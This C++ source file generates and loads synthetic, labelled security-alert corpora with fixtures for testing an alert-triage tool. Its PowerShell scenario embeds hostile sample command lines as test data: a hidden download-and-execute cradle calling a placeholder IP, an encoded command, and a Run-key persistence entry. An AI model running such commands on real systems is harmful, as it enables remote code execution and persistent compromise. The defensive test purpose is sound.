#include "triage/corpus.hpp"

#include <array>
#include <fstream>
#include <random>
#include <sstream>
#include <string>

#include "triage/errors.hpp"
#include "triage/geo.hpp"
#include "triage/time_util.hpp"

namespace triage {

namespace {

using json = nlohmann::ordered_json;

// Raw mt19937_64 draws only: std::*_distribution output differs between
// standard libraries, and corpora must be byte-identical for one seed
// regardless of where they were generated.
class DetRng {
public:
    explicit DetRng(std::uint64_t seed) : engine_(seed) {}

    std::uint64_t bounded(std::uint64_t n) { return n == 0 ? 0 : engine_() % n; }

    std::int64_t range(std::int64_t lo, std::int64_t hi) {  // inclusive
        return lo + static_cast<std::int64_t>(bounded(static_cast<std::uint64_t>(hi - lo + 1)));
    }

    double unit() { return static_cast<double>(engine_() >> 11) * 0x1.0p-53; }

    template <typename T, std::size_t N>
    const T& pick(const std::array<T, N>& pool) {
        return pool[bounded(N)];
    }

private:
    std::mt19937_64 engine_;
};

enum class CaseKind { Actionable, FpData, FpLogic, Undetermined, Benign };

Subclass subclass_for(CaseKind kind) {
    switch (kind) {
        case CaseKind::FpData: return Subclass::FalsePositiveData;
        case CaseKind::FpLogic: return Subclass::FalsePositiveLogic;
        case CaseKind::Undetermined: return Subclass::Undetermined;
        default: return Subclass::BenignPositive;
    }
}

CaseKind pick_case(Scenario scenario, DetRng& rng, const GeneratorOptions& options) {
    const double u = rng.unit();
    const double act = options.actionable_rate;
    const double degen = options.degenerate_rate;
    switch (scenario) {
        case WorkflowId::Coro:
            return CaseKind::Actionable;
        case WorkflowId::AddUser:
            if (u < act) return CaseKind::Actionable;
            if (u < act + degen) return CaseKind::FpData;
            if (u < act + degen + 0.15) return CaseKind::Undetermined;
            return CaseKind::Benign;
        case WorkflowId::AuthChange:
            if (u < act + 0.1) return CaseKind::Actionable;
            return CaseKind::Benign;
        case WorkflowId::MultipleISP:
            if (u < act) return CaseKind::Actionable;
            if (u < act + degen) return CaseKind::FpData;
            if (u < act + degen + 0.15) return CaseKind::FpLogic;
            return CaseKind::Benign;
        case WorkflowId::O365Guest:
            if (u < act) return CaseKind::Actionable;
            if (u < act + 0.15) return CaseKind::Undetermined;
            return CaseKind::Benign;
        case WorkflowId::O365Login:
        case WorkflowId::SharePointFile:
            if (u < act) return CaseKind::Actionable;
            if (u < act + 0.15) return CaseKind::FpLogic;
            return CaseKind::Benign;
        case WorkflowId::PowerShell:
            if (u < act) return CaseKind::Actionable;
            if (u < act + degen) return CaseKind::FpData;
            return CaseKind::Benign;
        case WorkflowId::SalesforceAbnormalLogin:
            if (u < act) return CaseKind::Actionable;
            return CaseKind::Benign;
        case WorkflowId::Generic:
            if (u < act) return CaseKind::Actionable;
            if (u < act + degen) return CaseKind::Undetermined;  // shape-degenerate
            return CaseKind::Benign;
    }
    return CaseKind::Benign;
}

constexpr std::array<std::string_view, 4> kFillerRules = {
    "Telemetry_Heartbeat", "Asset_Inventory_Sync", "Log_Volume_Baseline",
    "Endpoint_Health_Check"};
constexpr std::array<std::string_view, 3> kTenants = {"contoso", "fabrikam", "northwind"};
constexpr std::array<std::string_view, 6> kCountries = {"GB", "US", "DE", "FR", "JP", "AU"};
constexpr std::array<std::string_view, 4> kOses = {"Windows 11", "Windows 10", "macOS 14",
                                                   "Ubuntu 22.04"};
constexpr std::array<std::string_view, 4> kBrowsers = {"Chrome", "Edge", "Firefox", "Safari"};
constexpr std::array<std::string_view, 4> kWorkloads = {"Exchange", "SharePoint", "AzureAD",
                                                        "Teams"};
constexpr std::array<std::string_view, 4> kOperations = {"UserLoggedIn", "FileAccessed",
                                                         "MailItemsAccessed", "PolicyUpdated"};
constexpr std::array<std::string_view, 3> kEventNames = {"SignInActivity", "DirectoryChange",
                                                         "ResourceAccess"};
constexpr std::array<std::string_view, 3> kSeverities = {"Low", "Medium", "High"};
constexpr std::array<std::string_view, 8> kCities = {"London", "Paris", "Berlin", "Madrid",
                                                     "Chicago", "Seattle", "Dublin", "Tokyo"};
constexpr std::array<std::string_view, 3> kAdminRolePool = {"GlobalAdmin", "PrivilegedRoleAdmin",
                                                            "UserAdmin"};
constexpr std::array<std::string_view, 3> kPlainRolePool = {"User", "Reader", "Viewer"};

std::string random_ip(DetRng& rng) {
    return (rng.bounded(2) ? "203.0.113." : "198.51.100.") + std::to_string(rng.range(1, 254));
}

// Pads a rule's attributes with routing-neutral keys until the count sits
// inside the schema's 6-12 band.
void pad_attributes(AttributeMap& attributes, DetRng& rng) {
    struct Pad {
        AttributeKey key;
        std::string (*value)(DetRng&);
    };
    const std::array<Pad, 12> pool = {{
        {AttributeKey::of(AttrKind::ClientIp), [](DetRng& r) { return random_ip(r); }},
        {AttributeKey::of(AttrKind::City),
         [](DetRng& r) { return std::string(r.pick(kCities)); }},
        {AttributeKey::of(AttrKind::Country),
         [](DetRng& r) { return std::string(r.pick(kCountries)); }},
        {AttributeKey::of(AttrKind::Os), [](DetRng& r) { return std::string(r.pick(kOses)); }},
        {AttributeKey::of(AttrKind::BrowserType),
         [](DetRng& r) { return std::string(r.pick(kBrowsers)); }},
        {AttributeKey::of(AttrKind::Workload),
         [](DetRng& r) { return std::string(r.pick(kWorkloads)); }},
        {AttributeKey::of(AttrKind::Operation),
         [](DetRng& r) { return std::string(r.pick(kOperations)); }},
        {AttributeKey::of(AttrKind::EventName),
         [](DetRng& r) { return std::string(r.pick(kEventNames)); }},
        {AttributeKey::of(AttrKind::Severity),
         [](DetRng& r) { return std::string(r.pick(kSeverities)); }},
        {AttributeKey::unknown("SessionId"),
         [](DetRng& r) { return "sess-" + std::to_string(r.range(100000, 999999)); }},
        {AttributeKey::unknown("CorrelationId"),
         [](DetRng& r) { return "corr-" + std::to_string(r.range(100000, 999999)); }},
        {AttributeKey::unknown("RequestId"),
         [](DetRng& r) { return "req-" + std::to_string(r.range(100000, 999999)); }},
    }};
    std::size_t available = attributes.size();
    for (const auto& pad : pool) {
        if (!attributes.contains(pad.key)) ++available;
    }
    const std::size_t target = std::min(
        available, std::max<std::size_t>(attributes.size(),
                                         static_cast<std::size_t>(rng.range(6, 12))));
    while (attributes.size() < target) {
        std::size_t index = rng.bounded(pool.size());
        while (attributes.contains(pool[index].key)) {
            index = (index + 1) % pool.size();  // linear probe keeps this deterministic
        }
        attributes.set(pool[index].key, pool[index].value(rng));
    }
}

TriggeredRule filler_rule(DetRng& rng) {
    TriggeredRule rule;
    rule.behavior_rule = std::string(rng.pick(kFillerRules));
    rule.description = "Routine telemetry correlation.";
    rule.risk_score = rng.range(0, 400);
    pad_attributes(rule.attributes, rng);
    return rule;
}

void append_fillers(AlertTrace& trace, DetRng& rng) {
    const auto total = static_cast<std::size_t>(rng.range(2, 4));
    while (trace.rules.size() < total) {
        trace.rules.push_back(filler_rule(rng));
    }
}

std::vector<std::string> roles_for(bool admin, DetRng& rng) {
    std::vector<std::string> roles;
    roles.emplace_back(rng.pick(kPlainRolePool));
    if (admin) roles.emplace_back(rng.pick(kAdminRolePool));
    return roles;
}

UserRecord make_user(const std::string& email, std::int64_t created_epoch, bool admin,
                     DetRng& rng, UserType type = UserType::Member) {
    UserRecord record;
    record.email = email;
    record.created = format_iso8601_utc(created_epoch);
    record.roles = roles_for(admin, rng);
    record.user_type = type;
    record.display_name = "Directory user " + std::to_string(rng.range(100, 999));
    record.enabled = true;
    return record;
}

FixtureRow login_row(std::int64_t timestamp, std::string_view city, std::string_view isp,
                     DetRng& rng, bool explicit_geo) {
    FixtureRow row;
    row.timestamp = timestamp;
    row.attributes.set(AttributeKey::of(AttrKind::City), std::string(city));
    row.attributes.set(AttributeKey::of(AttrKind::Isp), std::string(isp));
    row.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
    row.attributes.set(AttributeKey::of(AttrKind::Operation), "UserLoggedIn");
    if (explicit_geo) {
        const auto point = lookup_city(city);
        row.attributes.set(AttributeKey::unknown("latitude"), std::to_string(point->latitude));
        row.attributes.set(AttributeKey::unknown("longitude"), std::to_string(point->longitude));
    }
    return row;
}

struct CaseSketch {
    CaseKind kind;
    AlertTrace trace;
    FixtureBundle fixtures;
};

void build_add_user(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    const std::string target = "target" + std::to_string(rng.range(1, 9999)) + "@corp.example";

    TriggeredRule rule;
    rule.behavior_rule = rng.bounded(2) ? "User_Added" : "Add_Member_To_Group";
    rule.description = "Directory object created or updated.";
    rule.risk_score = rng.range(300, 900);
    rule.attributes.set(AttributeKey::of(AttrKind::TargetUser),
                        sketch.kind == CaseKind::FpData ? "" : target);
    rule.attributes.set(AttributeKey::of(AttrKind::Operation), "Add user");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    if (sketch.kind == CaseKind::Actionable || sketch.kind == CaseKind::Benign) {
        sketch.fixtures.users.emplace(
            target, make_user(target, trace.timestamp - rng.range(40, 600) * 86400,
                              sketch.kind == CaseKind::Actionable, rng));
    }
}

void build_auth_change(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    bool removal = false;
    bool record_present = true;
    bool old_account = true;
    if (sketch.kind == CaseKind::Actionable) {
        switch (rng.bounded(3)) {
            case 0: removal = true; old_account = rng.bounded(2) == 0; break;
            case 1: old_account = true; break;       // addition on an established account
            default: record_present = false; break;  // addition, directory record missing
        }
    } else {
        old_account = false;  // addition by a recently created account
    }

    TriggeredRule rule;
    rule.behavior_rule =
        removal ? "Remove_Authentication_Method" : "Add_Authentication_Method";
    rule.description = "Authentication method inventory changed.";
    rule.risk_score = rng.range(300, 900);
    rule.attributes.set(AttributeKey::of(AttrKind::Mfa), "Authenticator App");
    rule.attributes.set(AttributeKey::of(AttrKind::UserType), "Member");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    if (record_present) {
        const std::int64_t age_days = old_account ? rng.range(45, 720) : rng.range(1, 20);
        sketch.fixtures.users.emplace(
            trace.entity,
            make_user(trace.entity, trace.timestamp - age_days * 86400 - rng.range(0, 3600),
                      false, rng));
    }
}

void build_coro(CaseSketch& sketch, DetRng& rng) {
    constexpr std::array<std::string_view, 3> names = {"Coro_Malware", "Coro_Phishing",
                                                       "Coro_Account_Takeover"};
    const auto count = static_cast<std::size_t>(rng.range(1, 2));
    for (std::size_t i = 0; i < count; ++i) {
        TriggeredRule rule;
        rule.behavior_rule = std::string(names[rng.bounded(names.size())]);
        rule.description = "Vendor-correlated detection.";
        rule.risk_score = rng.range(500, 1500);
        rule.attributes.set(AttributeKey::of(AttrKind::Severity), "High");
        pad_attributes(rule.attributes, rng);
        sketch.trace.rules.push_back(std::move(rule));
    }
}

void build_multiple_isp(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;

    TriggeredRule rule;
    rule.behavior_rule = "Multiple_ISPs";
    rule.description = "Sign-ins observed from multiple providers.";
    rule.risk_score = rng.range(300, 900);
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    struct CityPair {
        std::string_view a;
        std::string_view b;
    };
    constexpr std::array<CityPair, 4> far_pairs = {{{"London", "New York"},
                                                    {"Paris", "Tokyo"},
                                                    {"Sydney", "San Francisco"},
                                                    {"Madrid", "Chicago"}}};
    constexpr std::array<CityPair, 3> near_pairs = {{{"London", "Manchester"},
                                                     {"New York", "Boston"},
                                                     {"Paris", "Amsterdam"}}};
    constexpr std::array<CityPair, 4> isp_pairs = {{{"BT UK", "Verizon"},
                                                    {"Orange FR", "NTT"},
                                                    {"Telstra", "Comcast"},
                                                    {"Deutsche Telekom", "AT&T"}}};

    auto& rows = sketch.fixtures.query_tables[{QueryKind::GetRecentLoginActivity, trace.entity}];
    const auto isps = rng.pick(isp_pairs);
    const std::int64_t second_at = trace.timestamp - rng.range(0, 600);

    switch (sketch.kind) {
        case CaseKind::Actionable: {
            const auto cities = rng.pick(far_pairs);
            const std::int64_t gap = rng.range(900, 3000);  // far apart within the hour
            const bool explicit_geo = rng.bounded(2) == 0;
            rows.push_back(login_row(second_at - gap, cities.a, isps.a, rng, explicit_geo));
            rows.push_back(login_row(second_at, cities.b, isps.b, rng, explicit_geo));
            break;
        }
        case CaseKind::FpData: {
            for (int i = 0; i < 2; ++i) {
                FixtureRow row;
                row.timestamp = second_at - i * 1200;
                row.attributes.set(AttributeKey::unknown("latitude"), "corrupted");
                row.attributes.set(AttributeKey::unknown("longitude"), "");
                row.attributes.set(AttributeKey::of(AttrKind::Isp),
                                   std::string(i == 0 ? isps.b : isps.a));
                row.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
                rows.push_back(std::move(row));
            }
            break;
        }
        case CaseKind::FpLogic: {
            if (rng.bounded(2)) {
                rows.push_back(login_row(second_at, "London", isps.a, rng, false));
            }
            break;
        }
        default: {  // benign: near pair, or a far pair with ample elapsed time
            if (rng.bounded(3) != 2) {
                const auto cities = rng.pick(near_pairs);
                const std::int64_t gap = rng.range(3600, 14400);
                rows.push_back(login_row(second_at - gap, cities.a, isps.a, rng, false));
                rows.push_back(login_row(second_at, cities.b, isps.b, rng, false));
            } else {
                const std::int64_t gap = rng.range(21600, 26000);  // ~3,460 mi in 6+ hours
                rows.push_back(login_row(second_at - gap, "London", isps.a, rng, false));
                rows.push_back(login_row(second_at, "New York", isps.b, rng, false));
            }
            break;
        }
    }
}

void build_o365_guest(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;

    TriggeredRule rule;
    rule.behavior_rule = "Guest_Activity_Review";
    rule.description = "External guest account activity.";
    rule.risk_score = rng.range(300, 900);
    rule.attributes.set(AttributeKey::of(AttrKind::UserType), "Guest");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    if (sketch.kind != CaseKind::Undetermined) {
        sketch.fixtures.users.emplace(
            trace.entity,
            make_user(trace.entity, trace.timestamp - rng.range(40, 600) * 86400,
                      sketch.kind == CaseKind::Actionable, rng, UserType::Guest));
    }
}

void build_o365_login(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    constexpr std::array<std::string_view, 3> names = {"O365_Login", "O365_Login_Unusual_Location",
                                                       "O365_Login_New_Device"};

    std::int64_t rule_risk = 0;
    bool seed_rows = false;
    switch (sketch.kind) {
        case CaseKind::Actionable:
            rule_risk = rng.range(1100, 3000);
            seed_rows = true;
            break;
        case CaseKind::FpLogic:
            rule_risk = 0;
            break;
        default:
            if (rng.bounded(2)) {
                rule_risk = rng.range(1100, 3000);  // risky score, no corroboration
            } else {
                rule_risk = rng.range(100, 1000);
                seed_rows = rng.bounded(2) == 0;
            }
            break;
    }

    TriggeredRule rule;
    rule.behavior_rule = std::string(names[rng.bounded(names.size())]);
    rule.description = "Suspicious O365 sign-in.";
    rule.risk_score = rule_risk;
    rule.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
    rule.attributes.set(AttributeKey::of(AttrKind::Isp), "BT UK");
    rule.attributes.set(AttributeKey::of(AttrKind::Operation), "UserLoggedIn");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    if (seed_rows) {
        auto& rows =
            sketch.fixtures.query_tables[{QueryKind::GetRecentHighRiskActivity, trace.entity}];
        const auto count = static_cast<std::size_t>(rng.range(1, 3));
        for (std::size_t i = 0; i < count; ++i) {
            FixtureRow row;
            row.timestamp = trace.timestamp - rng.range(3600, 6 * 86400);
            row.attributes.set(AttributeKey::unknown("riskScore"),
                               std::to_string(rng.range(2100, 5000)));
            row.attributes.set(AttributeKey::of(AttrKind::Operation), "UserLoggedIn");
            row.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
            rows.push_back(std::move(row));
        }
    } else if (rng.bounded(2)) {
        // distractor rows the tool must filter out: stale or sub-threshold
        auto& rows =
            sketch.fixtures.query_tables[{QueryKind::GetRecentHighRiskActivity, trace.entity}];
        FixtureRow row;
        if (rng.bounded(2)) {
            row.timestamp = trace.timestamp - 10 * 86400;  // outside the lookback
            row.attributes.set(AttributeKey::unknown("riskScore"), "3000");
        } else {
            row.timestamp = trace.timestamp - 3600;
            row.attributes.set(AttributeKey::unknown("riskScore"), "1500");  // below threshold
        }
        rows.push_back(std::move(row));
    }
}

void build_powershell(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    constexpr std::array<std::string_view, 4> malicious_cmds = {
        "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command Start-Service "
        "TelemetrySvc",
        "powershell.exe -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAJABwAA==",
        "powershell.exe -WindowStyle Hidden -Command (New-Object "
        "Net.WebClient).DownloadString('http://198.51.100.7/a.ps1') | iex",
        "powershell.exe -NoProfile -Command New-ItemProperty -Path "
        "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value "
        "'powershell -enc UwB0AGEAcgB0AA=='",
    };
    constexpr std::array<std::string_view, 4> benign_cmds = {
        "powershell.exe -NoProfile -Command Get-ChildItem 'C:\\Program Files'",
        "powershell.exe -Command Get-Process | Sort-Object CPU",
        "cmd.exe /c dir C:\\Users",
        "powershell.exe -WindowStyle Hidden -Command Get-Date",
    };

    bool malicious_cmd = false;
    bool admin_user = false;
    bool blank_user = false;
    switch (sketch.kind) {
        case CaseKind::Actionable:
            malicious_cmd = true;
            admin_user = true;
            break;
        case CaseKind::FpData:
            blank_user = true;
            break;
        default:
            if (rng.bounded(2)) {
                malicious_cmd = true;  // malicious script, non-privileged account
            } else {
                admin_user = true;  // routine command under an admin account
            }
            break;
    }

    const std::string username = "operator" + std::to_string(rng.range(1, 9999)) + "@corp.example";

    TriggeredRule rule;
    rule.behavior_rule = "Endpoint_Script_Execution";
    rule.description = "Interactive shell launched on endpoint.";
    rule.risk_score = rng.range(300, 900);
    rule.attributes.set(AttributeKey::of(AttrKind::CmdLine),
                        std::string(malicious_cmd ? rng.pick(malicious_cmds)
                                                  : rng.pick(benign_cmds)));
    rule.attributes.set(AttributeKey::of(AttrKind::Username), blank_user ? "" : username);
    rule.attributes.set(AttributeKey::of(AttrKind::Hostname), trace.entity);
    rule.attributes.set(AttributeKey::of(AttrKind::ParentProcess),
                        rng.bounded(2) ? "explorer.exe" : "winword.exe");
    if (malicious_cmd && rng.bounded(2)) {
        rule.attributes.set(AttributeKey::of(AttrKind::Remediation), "Disinfected");
    }
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    if (!blank_user) {
        sketch.fixtures.users.emplace(
            username, make_user(username, trace.timestamp - rng.range(40, 600) * 86400,
                                admin_user, rng));
    }
}

void build_salesforce(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;

    TriggeredRule rule;
    rule.behavior_rule = "Fluency_Salesforce_Login_Status_Abnormal";
    rule.description = "Abnormal Salesforce login status.";
    rule.risk_score = rng.range(300, 900);
    rule.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
    rule.attributes.set(AttributeKey::of(AttrKind::Operation), "Login");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));

    const auto count = static_cast<std::size_t>(
        sketch.kind == CaseKind::Actionable ? rng.range(3, 5) : rng.range(0, 2));
    if (count > 0) {
        auto& rows =
            sketch.fixtures.query_tables[{QueryKind::GetRecentRuleActivity, trace.entity}];
        for (std::size_t i = 0; i < count; ++i) {
            FixtureRow row;
            row.timestamp = trace.timestamp - rng.range(3600, 6 * 86400);
            row.attributes.set(AttributeKey::unknown("behaviorRule"),
                               "Fluency_Salesforce_Login_Status_Abnormal");
            row.attributes.set(AttributeKey::of(AttrKind::ClientIp), random_ip(rng));
            rows.push_back(std::move(row));
        }
    }
}

void build_sharepoint(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    constexpr std::array<std::string_view, 3> files = {"Quarterly_Report.xlsx",
                                                       "Customer_List.csv", "Roadmap_2026.pptx"};

    std::int64_t risk = 0;
    if (sketch.kind == CaseKind::Actionable) {
        risk = rng.range(1001, 3000);
    } else if (sketch.kind == CaseKind::Benign) {
        risk = rng.range(1, 1000);
    }

    TriggeredRule rule;
    rule.behavior_rule =
        rng.bounded(2) ? "SharePoint_File_Download_Unusual" : "SharePoint_File_Access_Anomaly";
    rule.description = "Risky SharePoint file activity.";
    rule.risk_score = risk;
    rule.attributes.set(AttributeKey::of(AttrKind::FileName), std::string(rng.pick(files)));
    rule.attributes.set(AttributeKey::of(AttrKind::Workload), "SharePoint");
    rule.attributes.set(AttributeKey::of(AttrKind::Operation), "FileDownloaded");
    pad_attributes(rule.attributes, rng);
    trace.rules.push_back(std::move(rule));
}

void build_generic(CaseSketch& sketch, DetRng& rng) {
    auto& trace = sketch.trace;
    if (sketch.kind == CaseKind::Undetermined) {
        // deliberately thin: one rule, no attributes, no telemetry to recover
        TriggeredRule rule;
        rule.behavior_rule = std::string(rng.pick(kFillerRules));
        rule.description = "Sparse detector output.";
        rule.risk_score = rng.range(0, 400);
        trace.rules.push_back(std::move(rule));
        trace.risk_score = rng.range(100, 900);
        return;
    }
    trace.risk_score = sketch.kind == CaseKind::Actionable ? rng.range(1100, 4000)
                                                           : rng.range(100, 1000);
    trace.rules.push_back(filler_rule(rng));
}

void build_scenario(Scenario scenario, CaseSketch& sketch, DetRng& rng) {
    switch (scenario) {
        case WorkflowId::AddUser: build_add_user(sketch, rng); break;
        case WorkflowId::AuthChange: build_auth_change(sketch, rng); break;
        case WorkflowId::Coro: build_coro(sketch, rng); break;
        case WorkflowId::MultipleISP: build_multiple_isp(sketch, rng); break;
        case WorkflowId::O365Guest: build_o365_guest(sketch, rng); break;
        case WorkflowId::O365Login: build_o365_login(sketch, rng); break;
        case WorkflowId::PowerShell: build_powershell(sketch, rng); break;
        case WorkflowId::SalesforceAbnormalLogin: build_salesforce(sketch, rng); break;
        case WorkflowId::SharePointFile: build_sharepoint(sketch, rng); break;
        case WorkflowId::Generic: build_generic(sketch, rng); break;
    }
}

std::string scenario_entity(Scenario scenario, std::string_view tenant, DetRng& rng) {
    switch (scenario) {
        case WorkflowId::O365Guest:
            return "guest" + std::to_string(rng.range(1, 9999)) + "#ext#@" + std::string(tenant) +
                   ".onmicrosoft.com";
        case WorkflowId::PowerShell:
            return "wks-" + std::to_string(rng.range(100, 999)) + ".corp.example";
        case WorkflowId::Generic:
            if (rng.bounded(2)) {
                return "srv-" + std::to_string(rng.range(100, 999)) + ".corp.example";
            }
            [[fallthrough]];
        default:
            return "user" + std::to_string(rng.range(1, 9999)) + "@corp.example";
    }
}

}  // namespace

LabeledCorpus generate(Scenario scenario, std::uint64_t seed, std::size_t n,
                       const GeneratorOptions& options) {
    const auto scenario_index = static_cast<std::uint64_t>(scenario);
    DetRng rng(seed ^ (0x9E3779B97F4A7C15ULL * (scenario_index + 1)));

    const auto base_epoch = *parse_iso8601_utc("2025-06-01T00:00:00Z");

    LabeledCorpus corpus;
    corpus.seed = seed;
    corpus.entries.reserve(n);
    for (std::size_t i = 0; i < n; ++i) {
        CaseSketch sketch;
        sketch.kind = pick_case(scenario, rng, options);

        char suffix[16];
        std::snprintf(suffix, sizeof suffix, "%04zu", i);
        const std::string tenant(rng.pick(kTenants));

        auto& trace = sketch.trace;
        trace.id = std::string(workflow_name(scenario)) + "-s" + std::to_string(seed) + "-" +
                   suffix;
        trace.tenant = tenant;
        trace.account = "acct-" + std::to_string(rng.range(10000, 99999));
        trace.timestamp = base_epoch + rng.range(0, 60 * 86400);
        trace.time_iso = format_iso8601_utc(trace.timestamp);
        trace.entity = scenario_entity(scenario, tenant, rng);
        trace.risk_score = rng.range(100, 2500);  // rewritten by build_generic when it matters

        build_scenario(scenario, sketch, rng);
        if (!(scenario == WorkflowId::Generic && sketch.kind == CaseKind::Undetermined)) {
            append_fillers(trace, rng);
        }

        GroundTruthLabel label;
        label.actionable = sketch.kind == CaseKind::Actionable;
        if (!label.actionable) label.subclass = subclass_for(sketch.kind);

        corpus.entries.push_back(
            {std::move(sketch.trace), label, std::move(sketch.fixtures)});
    }
    return corpus;
}

namespace {

std::vector<std::string> read_lines(const std::filesystem::path& path) {
    std::ifstream in(path);
    if (!in) throw IoError(path.string(), "cannot open " + path.string());
    std::vector<std::string> lines;
    std::string line;
    while (std::getline(in, line)) {
        if (!line.empty()) lines.push_back(line);
    }
    return lines;
}

[[noreturn]] void corpus_error(const std::filesystem::path& file, std::size_t line_no,
                               const std::string& reason) {
    throw ParseError(ParseError::Code::SchemaViolation, file.filename().string(),
                     file.filename().string() + ":" + std::to_string(line_no) + ": " + reason);
}

}  // namespace

LabeledCorpus load_corpus(const std::filesystem::path& dir) {
    const auto traces_path = dir / "traces.jsonl";
    const auto labels_path = dir / "labels.jsonl";
    const auto fixtures_path = dir / "fixtures.jsonl";

    LabeledCorpus corpus;

    std::map<std::string, GroundTruthLabel> labels;
    {
        std::size_t line_no = 0;
        for (const auto& line : read_lines(labels_path)) {
            ++line_no;
            json object;
            try {
                object = json::parse(line);
            } catch (const json::exception& error) {
                corpus_error(labels_path, line_no, error.what());
            }
            const std::string id = object.value("id", std::string{});
            if (id.empty()) corpus_error(labels_path, line_no, "missing id");
            GroundTruthLabel label;
            const std::string verdict = object.value("verdict", std::string{});
            if (verdict == "Actionable") {
                label.actionable = true;
            } else if (verdict == "NonActionable") {
                label.actionable = false;
                const auto subclass = parse_subclass(object.value("subclass", std::string{}));
                if (!subclass) corpus_error(labels_path, line_no, "missing or unknown subclass");
                label.subclass = subclass;
            } else {
                corpus_error(labels_path, line_no, "unknown verdict");
            }
            if (!labels.emplace(id, label).second) {
                corpus_error(labels_path, line_no, "duplicate id " + id);
            }
        }
    }

    std::map<std::string, FixtureBundle> fixtures;
    {
        std::size_t line_no = 0;
        for (const auto& line : read_lines(fixtures_path)) {
            ++line_no;
            json object;
            try {
                object = json::parse(line);
            } catch (const json::exception& error) {
                corpus_error(fixtures_path, line_no, error.what());
            }
            const std::string id = object.value("id", std::string{});
            if (id.empty()) corpus_error(fixtures_path, line_no, "missing id");
            FixtureBundle bundle;
            try {
                bundle = parse_fixture_bundle(object);
            } catch (const ParseError& error) {
                corpus_error(fixtures_path, line_no, error.what());
            }
            if (!fixtures.emplace(id, std::move(bundle)).second) {
                corpus_error(fixtures_path, line_no, "duplicate id " + id);
            }
        }
    }

    std::size_t line_no = 0;
    for (const auto& line : read_lines(traces_path)) {
        ++line_no;
        AlertTrace trace;
        try {
            trace = parse_alert(line);
        } catch (const ParseError& error) {
            corpus_error(traces_path, line_no, error.what());
        }
        for (const auto& entry : corpus.entries) {
            if (entry.trace.id == trace.id) {
                corpus_error(traces_path, line_no, "duplicate id " + trace.id);
            }
        }
        const auto label = labels.find(trace.id);
        if (label == labels.end()) {
            corpus_error(traces_path, line_no, "no label for id " + trace.id);
        }
        const auto bundle = fixtures.find(trace.id);
        if (bundle == fixtures.end()) {
            corpus_error(traces_path, line_no, "no fixtures for id " + trace.id);
        }
        corpus.entries.push_back({std::move(trace), label->second, bundle->second});
    }
    if (corpus.entries.size() != labels.size()) {
        corpus_error(labels_path, labels.size(), "label without a matching trace");
    }
    if (corpus.entries.size() != fixtures.size()) {
        corpus_error(fixtures_path, fixtures.size(), "fixtures without a matching trace");
    }

    const auto meta_path = dir / "meta.json";
    if (std::filesystem::exists(meta_path)) {
        std::ifstream in(meta_path);
        if (in) {
            json meta;
            try {
                in >> meta;
                corpus.seed = meta.value("seed", std::uint64_t{0});
            } catch (const json::exception&) {
                // metadata is advisory; a broken file only loses the seed
            }
        }
    }
    return corpus;
}

void write_corpus(const LabeledCorpus& corpus, const std::filesystem::path& dir) {
    std::error_code ec;
    std::filesystem::create_directories(dir, ec);
    if (ec) throw IoError(dir.string(), "cannot create " + dir.string());

    const auto open = [](const std::filesystem::path& path) {
        std::ofstream out(path, std::ios::binary | std::ios::trunc);
        if (!out) throw IoError(path.string(), "cannot write " + path.string());
        return out;
    };

    auto traces = open(dir / "traces.jsonl");
    auto labels = open(dir / "labels.jsonl");
    auto fixtures = open(dir / "fixtures.jsonl");
    for (const auto& entry : corpus.entries) {
        traces << serialize_alert(entry.trace) << '\n';

        json label = json::object();
        label["id"] = entry.trace.id;
        label["verdict"] = entry.label.actionable ? "Actionable" : "NonActionable";
        if (entry.label.subclass) {
            label["subclass"] = std::string(subclass_name(*entry.label.subclass));
        }
        labels << label.dump() << '\n';

        json bundle = json::object();
        bundle["id"] = entry.trace.id;
        const json serialized = serialize_fixture_bundle(entry.fixtures);
        for (const auto& [key, value] : serialized.items()) {
            bundle[key] = value;
        }
        fixtures << bundle.dump() << '\n';
    }

    auto meta = open(dir / "meta.json");
    json object = json::object();
    object["seed"] = corpus.seed;
    object["entries"] = corpus.entries.size();
    meta << object.dump(2) << '\n';
}

}  // namespace triage
